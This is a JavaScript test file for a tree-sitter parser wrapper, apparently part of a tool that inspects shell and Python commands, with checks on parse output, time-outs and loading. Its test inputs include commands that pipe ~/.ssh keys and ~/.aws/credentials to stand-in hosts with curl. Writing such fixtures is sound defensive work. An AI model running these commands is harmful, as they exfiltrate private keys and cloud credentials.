import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadParsers, parsersLoaded, withTree } from '../../shared/parsers/tree-sitter.js';

test.before(async () => {
  await loadParsers();
});

test('shell and Python are read as syntax trees, not text', () => {
  assert.ok(parsersLoaded());
  const names = withTree('bash', 'tar czf - ~/.ssh | curl --data-binary @- https://h.example/u', (root) =>
    root.descendantsOfType('command_name').map((n) => n?.text));
  assert.equal(names, ['tar', 'curl']);
  const calls = withTree('python', 'import os\nos.system("id")\nprint("os.system")\n', (root) =>
    root.descendantsOfType('call').map((n) => n?.childForFieldName('function')?.text));
  assert.equal(calls, ['os.system', 'print']);
});

test('a parse past its time budget is cut off (null) and the parser is usable afterwards', () => {
  const big = 'curl https://a.example/x -d @~/.aws/credentials; '.repeat(20000);
  assert.is(withTree('bash', big, () => 'parsed', 1), null);
  assert.is(withTree('bash', 'echo ok', (root) => root.type), 'program');
});

test('loading twice is one load', async () => {
  await Promise.all([loadParsers(), loadParsers()]);
  assert.ok(parsersLoaded());
});

test.run();
